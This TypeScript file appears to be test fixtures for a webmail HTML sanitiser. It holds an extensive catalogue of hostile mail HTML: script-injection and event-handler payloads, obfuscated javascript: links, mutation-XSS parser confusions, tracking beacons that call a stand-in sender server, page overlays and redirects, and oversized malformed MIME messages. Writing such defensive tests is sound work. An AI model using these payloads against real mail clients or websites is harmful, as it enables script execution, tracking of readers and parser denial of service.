/**
 * What an attack runs: the browser reports both calls, from any frame, or the frame's document shows it. It must hold no space
 * and no double quote.
 */
export const owned = "console.log('owned'),alert('owned'),document.documentElement.lang='owned'";

const mutated = `<img src=x onerror="${owned}">`;

/** HTML that tries to run, by kind (threat 21). */
const running = (evil: string) => ({
  scripts: `<script>${owned}</script><script src="${evil}/x.js"></script><scr<script>ipt>${owned}</script><SCRIPT/x>${owned}</SCRIPT ><script type=module>${owned}</script><script
>${owned}</script><script/src="data:text/javascript,${owned}"></script>`,
  handlers: `<img src=x onerror="${owned}"><img/src="x"/onerror=${owned}><p onmouseover="${owned}" onclick="${owned}">p</p><details open ontoggle="${owned}">d</details><body onload="${owned}" onpageshow="${owned}"><div style="animation:x 1ms" onanimationstart="${owned}" onanimationend="${owned}">a</div><style>@keyframes x{from{left:0}}</style><marquee onstart="${owned}">m</marquee><input onfocus="${owned}" autofocus><div tabindex=0 id=f onfocusin="${owned}">f</div><img src=x ONERROR="${owned}" OnLoad="${owned}"><video onerror="${owned}"><source></video><audio src=x onerror="${owned}"></audio>`,
  links: `<a href="javascript:${owned}">one</a><a href=" java&#10;script:${owned}">two</a><a href="data:text/html,<script>${owned}</script>">three</a><a href="&#x6a;avascript&colon;${owned}">four</a><a href="\u0001javascript:${owned}">five</a><a href="JAVASCRIPT&Tab;:${owned}">six</a><a href="vbscript:x">seven</a><map name=m><area href="javascript:${owned}" shape=default></map><img usemap=#m src="data:image/gif;base64,R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7"><a target=_top href="javascript:${owned}">eight</a>`,
  frames: `<iframe src="${evil}" srcdoc="<script>${owned}</script>"></iframe><iframe src="javascript:${owned}"></iframe><object data="${evil}/o"></object><object data="data:text/html,<script>${owned}</script>"></object><embed src="${evil}/e"><embed src="javascript:${owned}"><applet code="${evil}/a"></applet><frameset><frame src="javascript:${owned}"></frameset><portal src="${evil}/p"></portal>`,
  forms: `<form action="${evil}/f"><input autofocus onfocus="${owned}"><button formaction="javascript:${owned}">b</button><input type=submit><input type=image src="${evil}/i"></form><form id=g action="javascript:${owned}"></form><button form=g>g</button><isindex action="javascript:${owned}"><select onchange="${owned}" autofocus onfocus="${owned}"><option>o</select><textarea onfocus="${owned}" autofocus></textarea><keygen onfocus="${owned}" autofocus>`,
  dialogs: `<script>alert('owned');confirm('owned');prompt('owned');eval("${owned}");print()</script><img src=x onerror="eval('${owned.replaceAll("'", "\\'")}')"><dialog open onclose="${owned}">d<form method=dialog><button>x</button></form></dialog><div popover id=p onbeforetoggle="${owned}">p</div><button popovertarget=p>b</button>`,
  drawings: `<svg onload="${owned}"><script>${owned}</script><script href="data:text/javascript,${owned}"></script><image href="${evil}/i"/><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><script>${owned}</script></svg>#x"/><a href="javascript:${owned}"><text y=20>t</text></a><animate onbegin="${owned}" attributeName=x dur=1s /><set attributeName=href to="javascript:${owned}"/><foreignObject><img src=x onerror="${owned}"></foreignObject><feImage href="${evil}/fe"/><style>@import "${evil}/svg.css";</style></svg><math href="javascript:${owned}"><maction actiontype="statusline#${evil}" xlink:href="javascript:${owned}">m</maction></math>`,
  "style code": `<p style="width:expression(${owned});-moz-binding:url(${evil}/x.xml#x);behavior:url(${evil}/x.htc)">e</p><style>p{behavior:url(${evil}/y.htc)}</style><link rel=stylesheet href="javascript:${owned}"><style>@import 'javascript:${owned}';</style><img style="background:url(javascript:${owned})" src="javascript:${owned}">`,
});

/** HTML that is one thing to the sanitiser's parser and could be another to the browser's (threat 21). */
const mutating = () => ({
  "mutated in comments": `<!--><i>${mutated}</i>--><!---><i>${mutated}</i>--><!-- --!><i>${mutated}</i>--><!--<img title="-->${mutated}">--><!-[if gte IE 4]>${mutated}<![endif]--><![if !mso]>${mutated}<![endif]><!--[if mso]>${mutated}<![endif]--><![CDATA[<i>${mutated}]]><?xml x="${mutated}"?><!DOCTYPE x [<!ENTITY e "${mutated}">]>&e;</x ${mutated}><// ${mutated}>`,
  "mutated in noscript": `<noscript><p title="</noscript>${mutated.replaceAll('"', "'")}"></noscript><noscript><style></noscript>${mutated}</style><noscript><!--</noscript>${mutated}--></noscript>`,
  "mutated in math": `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${owned}&gt;"></table></mtext></math><math><mtext><style>${mutated}</style></mtext></math><math><annotation-xml encoding="text/html"><style>${mutated}</style></annotation-xml></math><form><math><mtext></form><form><mglyph><style></math>${mutated}</style></mglyph></form></mtext></math>`,
  "mutated in svg": `<svg></p><style><a id="</style><img src=x onerror=${owned}>"></svg><svg><desc><style><p title="</style><img src=x onerror=${owned}>"></style></desc></svg><svg><title><style><p id="</style><img src=x onerror=${owned}>"></title></svg><svg><foreignObject><p><style><!--</style><img title="--><img src=x onerror=${owned}>"></svg><svg><p><style><g title="</style>${mutated.replaceAll('"', "'")}"></svg>`,
  "mutated in template": `<template><style><!--</style>${mutated}--></template><template><s><template><s>${mutated}</s></template></s></template><div><template shadowrootmode=open>${mutated}<script>${owned}</script></template></div><template></template>${mutated}</template>`,
  "mutated in raw text": `<title><style></title>${mutated}</style><textarea><p title="</textarea><img src=x onerror=${owned}>"></textarea><xmp><p title="</xmp><img src=x onerror=${owned}>"></xmp><noembed><p title="</noembed><img src=x onerror=${owned}>"></noembed><noframes><style></noframes>${mutated}</style><select><style></select>${mutated}</style><iframe><p title="</iframe><img src=x onerror=${owned}>"></iframe><style><style/>${mutated}</style><p id="</style><script>${owned}</script>">n</p>`,
  "mutated in attributes": `<p title="\`><img src=x onerror=${owned}>">a</p><p title='"><img src=x onerror=${owned}>'>b</p><p title=&quot;&gt;${mutated}>c</p><a title="x" href="https://x.example/"onmouseover="${owned}">d</a><img alt="\`\`onerror=${owned}" src="x\`\`onerror=${owned}"><p style="color:red;'><img src=x onerror=${owned}>">e</p><font color='"><img src=x onerror=${owned}>' face="</font>${mutated.replaceAll('"', "'")}">f</font>`,
  "mutated by depth": `${"<div>".repeat(600)}<math><mtext>${"<b><table>".repeat(40)}<mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${owned}&gt;">${mutated}`,
  "broken bytes": `<img src=x one\0rror="${owned}"><scr\0ipt>${owned}</scr\0ipt><\u0000script>${owned}</script><img src=x onerror\u000c="${owned}"><img src=x\u00a0onerror="${owned}"><p \uff1cscript\uff1e>${owned}</p>+ADw-script+AD4-${owned}+ADw-/script+AD4-<img src=x onerror\u2028="${owned}">`,
});

/** HTML that requests something from the sender's server, which tells the sender who reads (threat 23). */
const calling = (evil: string) => ({
  "style addresses": `<style>@import url(${evil}/a.css);@import "${evil}/b.css" screen;@\\69mport '${evil}/c.css';@namespace url(${evil}/n);@font-face{font-family:x;src:url(${evil}/f.woff2) format("woff2"),local(x)}p{background:url(${evil}/b);font-family:x}p::after{content:url(${evil}/c)}li{list-style-image:url(${evil}/l)}:root{--u:url(${evil}/v)}b{background:var(--u)}i{background:u\\72l(${evil}/e);mask:url(${evil}/m);-webkit-mask-image:url(${evil}/w);border-image:url(${evil}/bi) 1;cursor:url(${evil}/cu),auto;filter:url(${evil}/fi#x);clip-path:url(${evil}/cp#x);shape-outside:url(${evil}/so)}u{background-image:image-set("${evil}/s" 1x,url(${evil}/t) 2x);background-image:-webkit-image-set(url(${evil}/ws) 1x);background-image:-webkit-cross-fade(url(${evil}/x1),url(${evil}/x2),50%)}s{background:url("${evil}/unclosed}</style><style>a[href^="https://a"]{background:url(${evil}/leak-a)}</style><p>p <b>b</b> <i>i</i> <u>u</u> <s>s</s></p><ul><li>l</ul><a href="https://a.example/">a</a>`,
  "style attributes": `<p style="background-image:url('${evil}/c')">a</p><p style="background:url(${evil}/d">b</p><p style="background:u\\000072l(&quot;${evil}/e&quot;)">c</p><p style="background/**/:/**/url(${evil}/f)">d</p><p style="list-style:url(${evil.slice(5)}/g);display:list-item">e</p><p style="content:url(${evil}/h);background:src('${evil}/i')">f</p><p style="--x:url(${evil}/j);background:var(--x)">g</p><p style='background:image("${evil}/k"),url(\\
${evil}/l)'>h</p>`,
  fonts: `<style>@font-face{font-family:"one";src:url(${evil}/one.woff)}@font-face{font-family:two;src:url("${evil}/two.ttf")format("truetype");unicode-range:U+41}@font-feature-values one{@styleset{a:1}}@font-palette-values --x{font-family:one;base-palette:1}.f{font-family:one,two}</style><p class=f>ABC</p><font face="one">A</font>`,
  images: `<img srcset="${evil}/s 2x, ${evil}/s1 1x" src=x><img sizes=100vw srcset="${evil}/w 100w"><picture><source srcset="${evil}/ps"><img src=y></picture><table background="${evil}/t"><tr background="${evil}/tr"><td background="${evil}/td">cell</td></tr></table><body background="${evil}/body"><img lowsrc="${evil}/low" dynsrc="${evil}/dyn" longdesc="${evil}/long"><input type=image src="${evil}/in"><img loading=lazy src="${evil}/lazy"><img src="\\\\${evil.slice(7)}/unc"><img src="ftp://${evil.slice(7)}/ftp"><img crossorigin src="${evil}/cors">`,
  media: `<video poster="${evil}/v" src="${evil}/w" autoplay></video><video autoplay><source src="${evil}/vs"><track default src="${evil}/tr"></video><audio src="${evil}/a" autoplay preload=auto></audio><bgsound src="${evil}/bg">`,
  "links that load": ["stylesheet", "prefetch", "preload", "preconnect", "dns-prefetch", "prerender", "modulepreload"]
    .concat("icon", "manifest", "apple-touch-icon", "import", "alternate stylesheet", "next", "search")
    .map((rel) => `<link rel="${rel}" as=image href="${evil}/link-${rel}">`)
    .join("")
    .concat(
      `<script type=speculationrules>{"prefetch":[{"urls":["${evil}/spec"]}]}</script><html manifest="${evil}/m">`,
    ),
  drawn: `<svg width=9 height=9><image href="${evil}/i" xlink:href="${evil}/xi" width=9 height=9 /><use href="${evil}/u#x"/><filter id=q><feImage href="${evil}/fe"/></filter><rect filter="url(${evil}/fi#x)" fill="url(${evil}/fill#x)" width=9 height=9 style="mask:url(${evil}/m)"/><style>rect{background:url(${evil}/css)}</style><foreignObject><img src="${evil}/fo"></foreignObject></svg><math><mtext><img src="//${evil.slice(7)}/math"></mtext></math>`,
  pings: `<a href="https://x.example/" ping="${evil}/ping">a</a><area ping="${evil}/area" href="https://x.example/"><blockquote cite="${evil}/cite">q</blockquote><del cite="${evil}/del">d</del><p itemscope itemid="${evil}/id">i</p><object classid="${evil}/cls" codebase="${evil}/" archive="${evil}/ar"></object>`,
});

/** HTML that would break out of its place, or take the reader elsewhere (threat 24). */
const leaving = (evil: string) => ({
  overlays: `<style>.o{position:fixed;inset:0;z-index:2147483647;background:red}.p{p\\6fsition:FIXED!important}.q{position:sticky;top:0}@media screen{.r{position:fixed}}@supports (position:fixed){.s{position : fixed}}</style><div class=o>o</div><div class=p>p</div><div class=q>q</div><div class=r>r</div><div class=s>s</div><div style="position:fixed;top:0;left:0">t</div><div style="POSITION:\\66ixed">u</div><div style="position:/**/fixed">v</div><div style="position:fixed !important">w</div><div style="position:-webkit-sticky">x</div>`,
  "computed overlays": `<style>.cv{--p:attr(title type(<custom-ident>));position:var(--p)}.cc{--a:attr(title type(*));--b:var(--a);--c:var(--b,static);position:var(--c)!important}.cf{position:var(--none,fixed)}.cn{position:var(--none,var(--nor,sticky))}.ce{position:env(none,fixed)}.ca{position:attr(title type(*),fixed)}.ci{--p:attr(title type(*));position:if(style(--x:y):static;else:var(--p))}.cr{--p:attr(title type(*))}.cr p{position:var(--p)}@property --q{syntax:"*";inherits:true;initial-value:fixed}.cq{position:var(--q)}@keyframes k{from,to{--k:fixed}}.ck{animation:k 1s infinite;position:var(--k)}@function --f(){result:fixed}.cu{position:--f()}</style>${"cv cc cf cn ce ca ci cq ck cu"
    .split(" ")
    .map((name) => `<div class=${name} title=fixed>${name}</div>`)
    .join(
      "",
    )}<div class=cr title=fixed><p>cr</p></div><div title=fixed style="--p:attr(title type(*));position:var(--p)">cs</div>`,
  refresh: `<meta http-equiv="refresh" content="0;url=${evil}/refresh"><meta http-equiv=refresh content="0;javascript:${owned}"><META HTTP-EQUIV="Set-Cookie" CONTENT="a=b"><meta http-equiv=Content-Security-Policy content="default-src *"><meta name=referrer content=unsafe-url>`,
  base: `<base href="${evil}/base/" target=_top><a href="relative">r</a><img src="relative.png"><form action="f"></form>`,
  targets: `<a href="${evil}/top" target=_top rel=opener>t</a><a href="${evil}/parent" target=_parent>p</a><a href="${evil}/self" target=_self>s</a><a href="/dashboard">own</a><a href="//${evil.slice(7)}/rel">r</a><a href="#top">h</a><a href="intent://x#Intent;end">i</a><a href="tel:+1">t</a><a href="blob:${evil}/x">b</a><a href="file:///etc/passwd">f</a><a href="view-source:${evil}">v</a>`,
});

/** The HTML of hostile mails by name, as functions of the URL of the sender's own server. */
export const hostileMail: Record<string, (evil: string) => Record<string, string>> = {
  "that would run": running,
  "that is another thing once it is parsed again": mutating,
  "that would tell its sender who reads": calling,
  "that would leave its place": leaving,
};

/** A text for a mail's headers, names and body that must be shown literally (threat 25). */
export const payload = `<img src=x onerror="${owned}"></title></textarea><script>${owned}</script><!--`;

/** Mail that no parser can read, or none in time; the server keeps each byte for byte (threats 15 to 17). */
export const unparseable = (): Record<string, Buffer> => {
  const head = (subject: string, ...lines: string[]) =>
    [`From: Zoë <zoe@elsewhere.example>`, `Subject: ${subject}`, ...lines, "", ""].join("\r\n");
  const every = Buffer.from(
    Array.from({ length: 256 }, (_, byte) => byte).filter((byte) => byte !== 10 && byte !== 13),
  );
  const nested = Array.from(
    { length: 5_000 },
    (_, no) => `Content-Type: multipart/mixed; boundary=b${no}\r\n\r\n--b${no}\r\n`,
  );
  return {
    "every byte": Buffer.concat([Buffer.from(head("every byte")), every, Buffer.from("\r\n")]),
    "no header at all": Buffer.concat([every, Buffer.from("\r\n")]),
    "a charset that does not exist": Buffer.from(
      `${head("a charset that does not exist", "Content-Type: text/plain; charset=x-\0-nowhere")}\xff\xfe text\r\n`,
      "latin1",
    ),
    "base64 that is none": Buffer.from(
      `${head("base64 that is none", "Content-Transfer-Encoding: base64", "Content-Type: text/html")}%%%%=!=\r\n`,
    ),
    "a boundary that never comes": Buffer.from(
      `${head("a boundary that never comes", "Content-Type: multipart/mixed; boundary=b")}--c\r\n\r\nx\r\n`,
    ),
    "5,000 nested parts": Buffer.from(head("5,000 nested parts").slice(0, -2) + nested.join("")),
    "50,000 parts": Buffer.from(
      `${head("50,000 parts", "Content-Type: multipart/mixed; boundary=b")}${"--b\r\n\r\nx\r\n".repeat(50_000)}--b--\r\n`,
    ),
    "3 MB of header": Buffer.from(
      `${head("3 MB of header").slice(0, -2)}${`X-Long: ${"y".repeat(900)}\r\n`.repeat(3_300)}\r\nx\r\n`,
    ),
    "quirky text": Buffer.from(
      `${head("quirky text")}${"=?utf-8?Q?=C3=28?= http://a.b/".repeat(20).concat("\r\n").repeat(1_000)}`,
    ),
  };
};
